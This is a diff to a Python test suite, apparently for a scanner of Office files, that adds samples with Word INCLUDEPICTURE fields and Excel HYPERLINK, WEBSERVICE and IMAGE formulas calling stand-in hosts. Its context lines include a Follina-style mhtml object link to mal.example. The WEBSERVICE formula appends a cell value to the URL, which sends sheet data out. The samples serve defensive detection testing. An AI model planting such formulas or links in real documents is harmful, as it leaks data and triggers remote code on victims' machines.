@@ -199,6 +199,29 @@ def _links() -> list[Sample]:
             "an object (Follina)",
             linked("oleObject", "mhtml:http://mal.example/a.html!x-usc:b"),
         ),
+        _docx_at_limit(
+            Finding.EXTERNAL_CONTENT,
+            "a picture of a server that is kept inside",
+            with_fields('INCLUDEPICTURE "https://a.example/d.png" \\* MERGEFORMATINET'),
+        ),
+        _docx_beyond(
+            Finding.EXTERNAL_CONTENT,
+            "a picture that is fetched",
+            with_fields('INCLUDEPICTURE "https://a.example/d.png" \\d'),
+        ),
+        _xlsx_at_limit(
+            Finding.EXTERNAL_CONTENT, "a link in a formula", partial(with_formula, 'HYPERLINK("https://a.example/")')
+        ),
+        _xlsx_beyond(
+            Finding.EXTERNAL_CONTENT,
+            "a formula that asks a server",
+            partial(with_formula, '_xlfn.WEBSERVICE("https://a.example/"&amp;A1)'),
+        ),
+        _xlsx_beyond(
+            Finding.EXTERNAL_CONTENT,
+            "a formula that fetches a picture",
+            partial(with_formula, '_xlfn.IMAGE("https://a.example/a.png")'),
+        ),
         _docx_beyond(Finding.EXTERNAL_CONTENT, "a frame", linked("frame", "http://mal.example/a.html")),
         _xlsx_at_limit(
             Finding.EXTERNAL_CONTENT, "a connection that waits", partial(with_connection, refreshed.format(0).encode())
